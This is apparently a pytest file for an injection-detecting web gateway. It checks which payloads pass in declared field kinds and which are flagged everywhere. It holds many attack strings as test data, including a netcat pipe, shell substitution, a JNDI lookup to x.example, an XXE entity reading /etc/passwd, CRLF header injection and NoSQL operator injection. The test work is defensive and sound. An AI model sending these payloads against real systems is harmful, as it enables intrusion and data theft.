"""Kinds of fields: what a field holds on purpose passes there, and what breaks out of the request is found in all of them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, get_args
from urllib.parse import quote

import pytest

from injection_harness import CLIMB, COMMAND, SQL, XSS, as_json, request, said
from sallygate.controls.injection.exclusions import LEFT_OUT
from sallygate.offline.decide import Offline
from sallygate.offline.recordings import Recorded
from sallygate.policy.injection import FieldKind
from support import write_policy

PASSES = {
    "text": [SQL, XSS, COMMAND, CLIMB, "{{7*7}}", "system('id')", "http://169.254.169.254/"],
    "markdown": [SQL, XSS, COMMAND, CLIMB],
    "html": [XSS, "<img src=x onerror=alert(1)>"],
    "code": [SQL, XSS, COMMAND, "__import__('os').system('id')"],
    "sql": [SQL, "select a from b where c = 'd'; drop table e"],
    "query": ["' || this.a == 1 || '", SQL],
    "shell": [COMMAND, "cat ../a | nc b 80", "$(id)"],
    "filter": [],
    "path": [CLIMB],
    "url": ["http://127.0.0.1/admin"],
}
HOLDS = {
    "crlf": "a\r\nSet-Cookie: b=c",
    "lookup": "${jndi:ldap://x.example/a}",
    "xxe": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "deserialisation": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZA==",
}


def section(kind: str, field: str = "body:/f") -> str:
    return f"kinds: [{{field: '{field}', kind: {kind}}}]"


def test_every_kind_is_in_the_table() -> None:
    assert set(LEFT_OUT) == set(get_args(FieldKind)) == set(PASSES)


@pytest.mark.parametrize("kind", PASSES)
def test_what_a_field_holds_on_purpose_passes_there_and_nowhere_else(kind: str) -> None:
    for value in PASSES[kind]:
        assert said(as_json({"f": value})) != [], value
        assert said(as_json({"f": value}), section(kind)) == [], value
        assert said(as_json({"g": value}), section(kind)) != [], value
        assert said(as_json({"f": "a", "x": {"f": value}}), section(kind)) != [], value


@pytest.mark.parametrize("kind", PASSES)
@pytest.mark.parametrize("family", HOLDS)
def test_what_breaks_out_of_the_request_is_found_in_every_kind(kind: str, family: str) -> None:
    found = said(as_json({"f": HOLDS[family]}), section(kind))
    assert any(one.startswith(family) for one in found), found


@pytest.mark.parametrize("kind", [kind for kind in PASSES if kind not in ("query", "sql", "filter")])
def test_operators_and_prototypes_in_names_are_found(kind: str) -> None:
    assert said(as_json({"f": {"$ne": 1}}), section(kind, "body:/f*")) != []
    assert said(as_json({"f": {"__proto__": {"a": 1}}}), section(kind, "body:/f*")) != []


def test_a_query_language_may_have_operators() -> None:
    assert said(as_json({"f": {"$and": [{"a": {"$gt": 1}}]}}), section("query", "body:/f*")) == []
    assert said(as_json({"f": {"__proto__": {"a": 1}}}), section("query", "body:/f*")) != []


def test_a_filter_has_operators_in_names_and_nothing_else() -> None:
    filtered = {"$and": [{"a": {"$gt": 1}}, {"b": {"$in": [1, 2]}}]}
    assert said(as_json({"f": filtered})) != []
    assert said(as_json({"f": filtered}), section("filter")) == []
    for other in (
        {"g": filtered},
        {"f": {"a": json.dumps(filtered)}},
        {"f": 1, "password": {"$ne": ""}},
        {"ff": {"$ne": 1}},
    ):
        assert said(as_json(other), section("filter")) != [], other
    for script in ({"$where": "sleep(1)"}, {"$expr": {"$gt": [1, 0]}}, {"$and": [{"$function": {"body": "x"}}]}, {"a": SQL},
                   {"$lookup": {"from": "u"}}, {"__proto__": {"a": 1}}, {"a": "';return true;//"}):  # fmt: skip
        assert said(as_json({"f": script}), section("filter")) != [], script


def test_a_field_of_a_query_and_of_one_path_alone() -> None:
    where = "kinds: [{field: 'query:q', kind: text, path: '/chat/*'}]"
    assert said(request("/chat/1", "q=" + quote(SQL)), where) == []
    assert said(request("/other", "q=" + quote(SQL)), where) != []


DOCUMENT: dict[str, Any] = {
    "openapi": "3.1.0",
    "info": {"title": "chat", "version": "1"},
    "paths": {
        "/chat": {
            "post": {
                "operationId": "chat",
                "security": [],
                "parameters": [{"name": "q", "in": "query", "schema": {"type": "string", "x-sallygate-kind": "sql"}}],
                "requestBody": {"content": {"application/json": {"schema": {"$ref": "#/components/schemas/Chat"}}}},
                "responses": {"200": {"description": "ok"}},
            }
        }
    },
    "components": {
        "schemas": {
            "Chat": {
                "type": "object",
                "properties": {
                    "messages": {"type": "array", "items": {"$ref": "#/components/schemas/Message"}},
                    "page": {"type": "string", "contentMediaType": "text/html; charset=utf-8"},
                    "prompt": {"type": "string"},
                    "where": {"type": "object"},
                    "match": {"type": "object", "properties": {"$and": {"type": "array"}, "name": {"type": "string"}}},
                    "labels": {"type": "object", "additionalProperties": {"type": "string"}},
                    "user": {"allOf": [{"type": "object"}, {"properties": {"name": {}, "$type": {"type": "string"}}}]},
                    "login": {"type": "object", "properties": {"user": {}, "password": {"type": "string"}}},
                },
            },
            "Message": {"type": "object", "properties": {"content": {"type": "string", "format": "markdown"}}},
        }
    },
}


def test_the_contract_says_what_fields_are_for(tmp_path: Path) -> None:
    offline = Offline(write_policy(tmp_path, "operations: {}\n", openapi=DOCUMENT))

    def found(body: object, query: str = "") -> list[str]:
        raw = json.dumps(body).encode()
        headers = (
            (b"host", b"a.example"),
            (b"content-type", b"application/json"),
            (b"content-length", b"%d" % len(raw)),
        )
        sent = Recorded("POST", "https", b"/chat", query.encode(), headers, raw, "192.0.2.7")
        return [f"{one.code} {one.where}" for one in offline.decide(sent).decision.findings]

    assert found({"messages": [{"content": "a"}, {"content": f"Why does {SQL} work?"}]}) == []
    assert found({"page": XSS}) == [] and found({}, "q=" + quote(SQL)) == []
    assert found({"prompt": XSS}) == ["injection.xss body:/prompt"], "a name opens nothing"
    assert found({"where": {"a": {"$ne": 1}}}) == [] == found({"match": {"$and": [{"b": {"$gt": 1}}]}})
    assert found({"login": {"user": {"$ne": 1}}}) != [], "a type that is left out declares nothing"
    assert found({"labels": {"$ne": "x"}}) != [] and found({"user": {"name": {"$ne": 1}}}) != []
    assert found({"match": {"name": {"$ne": 1}}}) != [], "beside a declared operator"
    assert found({"where": {"$where": "sleep(1)"}}) != []
    assert found({"page": HOLDS["lookup"]}) == ["injection.lookup body:/page"]
